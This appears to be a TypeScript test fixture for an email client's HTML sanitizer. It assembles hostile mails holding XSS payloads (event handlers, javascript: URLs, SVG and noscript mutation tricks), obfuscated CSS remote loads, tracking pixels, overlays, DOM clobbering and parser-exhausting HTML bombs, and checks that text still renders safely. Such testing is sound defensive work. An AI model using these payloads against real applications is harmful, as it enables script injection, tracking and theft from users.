import { htmlBombs } from '../support/html-bombs.ts';

export interface HostileMail {
  readonly subject: string;
  readonly html: string;
  /** Words that must be seen all the same. */
  readonly shows: string;
  /** True: too much for a browser; only its text is shown. */
  readonly asText?: boolean;
}

/** CSS that would load from `OUT`, by every way to write that. */
const loadingStyles = [
  'background:url(OUT/a)',
  'background:u\\72l(OUT/b)',
  'background:URL( "OUT/c" )',
  'background-image:image-set("OUT/d" 1x)',
  'background-image:-webkit-image-set(url(OUT/e) 1x)',
  'background-image:-webkit-cross-fade(url(OUT/f),url(OUT/g),50%)',
  '--loaded:url(OUT/h);background:var(--loaded)',
  'list-style:url(OUT/i)',
  'border-image:url(OUT/j) 1',
  'cursor:url(OUT/k),auto',
  'content:url(OUT/l)',
  'mask:url(OUT/m);-webkit-mask-image:url(OUT/n);clip-path:url(OUT/o#p)',
  'filter:url(OUT/q#r);backdrop-filter:url(OUT/s#t)',
  'shape-outside:url(OUT/u);offset-path:url(OUT/v)',
  'width:expression(top.ran=1);behavior:url(OUT/w);-moz-binding:url(OUT/x#y)',
  'background:url(//OUTHOST/z)',
] as const;

/** HTML that tries to run scripts (`ran = 1`), to load from `outside`, or to bring down whoever parses it. */
export function hostileMails(outside: string): readonly HostileMail[] {
  const attack = (subject: string, html: string): HostileMail => ({
    subject,
    html: `<p>Good day</p>${html}`,
    shows: 'Good day',
  });
  const bomb = (name: string, asText = true): HostileMail => ({
    subject: `Bomb: ${name}`,
    html: `<p>Good day</p>${htmlBombs[name]?.(770_000)}`,
    shows: 'Good day',
    asText,
  });
  return [
    attack('Script element', '<script>top.ran = 1</script><script src="OUT/x.js"></script>'),
    attack(
      'Event handlers',
      '<img src=x onerror="top.ran=1"><body onload="top.ran=1"><p onmouseover="top.ran=1">x</p>' +
        '<details open ontoggle="top.ran=1">x</details><p/onclick=top.ran=1 oNfocus\n=top.ran=1 autofocus tabindex=1>y</p>',
    ),
    attack(
      'Script addresses',
      '<a href="javascript:top.ran=1">a</a><iframe src="javascript:top.ran=1"></iframe>' +
        '<a href=" java\nscript:top.ran=1">b</a><a href="&#106;avascript:top.ran=1">c</a><a href="data:text/html,d">d</a>',
    ),
    attack(
      'SVG and MathML',
      '<svg onload="top.ran=1"><script>top.ran=1</script><image href="OUT/i"/><use href="OUT/u#x"/></svg>' +
        '<svg><style>@import "OUT/s";</style><feImage href="OUT/f"/><animate onbegin="top.ran=1"/></svg>' +
        '<math><mi xlink:href="OUT">x</mi></math>',
    ),
    attack(
      'Mutation',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;">',
    ),
    attack(
      'Mutation of noscript',
      '<noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript><svg></p><style><a id="</style><img src=1 onerror=top.ran=1>">',
    ),
    attack(
      'Styles',
      '<style>@import "OUT/a.css";@import url(OUT/b.css);@font-face{font-family:f;src:url(OUT/f.woff)}' +
        `p{font-family:f}${loadingStyles.map((style) => `.s,p{${style}}`).join('')}` +
        '@media (min-width:1px){p{background:url(OUT/m)}}@supports (color:red){p{background:url(OUT/n)}}' +
        '@layer l{p{background:url(OUT/o)}}p{& b{background:url(OUT/p)}}p::before{content:url(OUT/q)}</style>' +
        `<link rel=stylesheet href=OUT/c.css>${loadingStyles.map((style) => `<p class=s style='${style}'>x<b>y</b></p>`).join('')}`,
    ),
    attack(
      'Overlay',
      '<style>.o{position:fixed;inset:0;z-index:9;background:red}</style><div class=o>cover</div>' +
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647">cover</div>' +
        '<div style="min-height:100vh">high</div><dialog open>cover</dialog><div popover>cover</div>',
    ),
    attack('Forms', '<form action="OUT/form"><input autofocus onfocus="top.ran=1"><button>Send</button></form>'),
    attack(
      'Image buttons',
      '<form action=OUT/f><input type=image src=OUT/i></form><button formaction=OUT/b>x</button>',
    ),
    attack('Refresh and base', '<meta http-equiv="refresh" content="0;url=OUT/refresh"><base href="OUT/">'),
    attack(
      'Frames and objects',
      '<iframe src="OUT/f"></iframe><iframe srcdoc="<script>top.ran=1</script><img src=OUT/d>"></iframe>' +
        '<object data="OUT/o"></object><embed src="OUT/e"><applet code="OUT/a"></applet><portal src=OUT/p></portal>',
    ),
    attack(
      'Media',
      '<video poster="OUT/p.gif" src="OUT/v" autoplay></video><picture><source srcset="OUT/s"></picture>' +
        '<audio src=OUT/a autoplay></audio><bgsound src=OUT/b><track src=OUT/t>',
    ),
    attack(
      'Prefetch',
      '<link rel="prefetch" href="OUT/l"><link rel="stylesheet" href="OUT/c.css"><link rel=dns-prefetch href=OUT>' +
        '<link rel=preload as=image href=OUT/p><link rel=icon href=OUT/i><a ping=OUT/ping href=OUT/a>x</a>',
    ),
    attack(
      'Backgrounds',
      '<body background=OUT/b><table background="OUT/t"><tr background=OUT/r><td background="OUT/d">x</table>',
    ),
    attack('Remote images', '<img src="OUT/tracker.gif" width=1><img srcset="OUT/set.gif 1x" src="OUT/second.gif">'),
    attack(
      'Other images',
      '<img src="//OUTHOST/third.gif"><image src=OUT/i><img lowsrc=OUT/l dynsrc=OUT/d longdesc=OUT/g>' +
        '<img src="/api/v1/queues"><img src="auth/sign-out"><img src="cid:1"><a href="/auth/sign-out">y</a>',
    ),
    attack(
      'Clobbering',
      '<a id="body" name="contentDocument"></a><img name="querySelector"><form id="documentElement">',
    ),
    {
      subject: 'Nested deeply',
      html: `${'<div>'.repeat(20_000)}Good day${'</div>'.repeat(20_000)}`,
      shows: 'Good day',
      asText: true,
    },
    bomb('end tags that close nothing'),
    bomb('mixed formatting that stays open'),
    bomb('quotes around many lines'),
    bomb('many attributes'),
    bomb('direction marks', false),
  ].map((mail) => ({
    ...mail,
    html: mail.html.replaceAll('OUTHOST', new URL(outside).host).replaceAll('OUT', outside),
  }));
}
